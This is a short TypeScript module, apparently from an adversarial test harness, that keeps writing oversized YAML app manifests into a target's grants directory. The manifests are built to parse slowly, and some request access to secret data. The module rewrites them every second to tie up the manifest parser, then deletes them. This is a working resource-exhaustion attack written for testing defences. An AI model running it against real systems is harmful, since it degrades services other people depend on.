import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as pause } from 'node:timers/promises';
import { AttackConnections, type Outcomes, type Target } from './attack-connection';

const HEAD = 'metadata:\n  name: evil\npermission:\n  sysData: []\n';
const BYTES = 250 * 1024;

/** The manifests whose parsing takes longest for their size. */
const SLOW: readonly string[] = [
  HEAD + repeated(': :\n'),
  HEAD + repeated(']\n'),
  `${HEAD}x: [${repeated('1,')}]\n`,
  `${HEAD}x:\n${repeated('\t- a\n')}`,
  `${HEAD}x:\n${repeated('  a: b\n')}`,
  `metadata:\n  name: evil\npermission:\n  sysData:\n  - dataType: secret\n    group: secret.infisical\n    version: v1\n    ops:\n${repeated('    - x\n')}`,
];

function repeated(line: string): string {
  return line.repeat(Math.floor((BYTES - HEAD.length) / line.length));
}

/** Installs apps with manifests of the largest size that is read, and changes each of them every second. */
export async function slowManifests(target: Target): Promise<Outcomes> {
  const all = new AttackConnections(target);
  const folders = SLOW.map((_, at) => join(target.grantsDir ?? '', `evil-${at}`));
  for (let turn = 0; all.isRunning; turn++) {
    for (const [at, folder] of folders.entries()) {
      mkdirSync(folder, { recursive: true });
      writeFileSync(join(folder, 'app.yaml'), `user: mallory\nappKey: evil-${at}\nappSecret: '0123456789'\n`);
      writeFileSync(join(folder, 'OlaresManifest.yaml'), `${SLOW[at]}# ${turn}\n`);
      all.count('written');
    }
    await pause(1_000);
  }
  for (const folder of folders) rmSync(folder, { recursive: true, force: true });
  return all.end();
}
